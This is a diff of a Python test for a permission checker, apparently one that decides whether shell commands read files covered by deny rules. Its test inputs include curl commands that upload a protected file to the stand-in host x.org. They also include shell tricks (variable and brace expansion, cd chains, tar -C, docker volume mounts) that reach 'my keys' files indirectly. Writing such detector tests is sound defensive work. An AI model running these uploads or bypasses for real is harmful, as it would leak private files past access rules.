@@ -576,12 +576,28 @@ def test_a_file_in_the_home_directory_that_a_command_names_is_under_its_rule(
         'cp "my keys/a b" .',
         "curl -d @plain/a x.org",
         "curl -F f=@plain/a x.org",
+        "cat my\\ keys/a\\ b",
+        "cat $WORK/plain/a",
+        'cat "${WORK}/my keys/a b"',
+        "cat $PWD/plain/a",
+        "cat ${NOWHERE:-plain}/a",
+        "cat plain/{a,c}",
+        "cat {src,plain}/a",
+        "tar -cC plain a",
+        "tar --directory=plain -c a",
+        "cd plain && cat a",
+        "cd 'my keys'; cat 'a b'",
+        "cd src && cd ../plain && cat a",
+        "docker run -v plain/a:/x image",
+        "grep -fplain/a x",
     ],
 )
-def test_a_name_in_quotes_or_after_an_at_sign_is_under_its_rule(
-    command: str, tmp_path: Path
+def test_a_name_is_under_its_rule_however_a_shell_would_find_it(
+    command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    rules = rules_from_table({"read": {"my keys/a b": "deny", "plain/*": "deny"}}, "user")
+    monkeypatch.setenv("WORK", str(tmp_path))
+    rules = rules_from_table({"read": {"my keys/a b": "deny", "plain/a": "deny"}}, "user")
     reading = rule_of_reading(rules)
     assert reading is not None
-    assert len(list(files_under_rules(command, reading, tmp_path, tmp_path))) == 1
+    (found,) = files_under_rules(command, reading, tmp_path, tmp_path)
+    assert found.pattern in {"my keys/a b", "plain/a"}
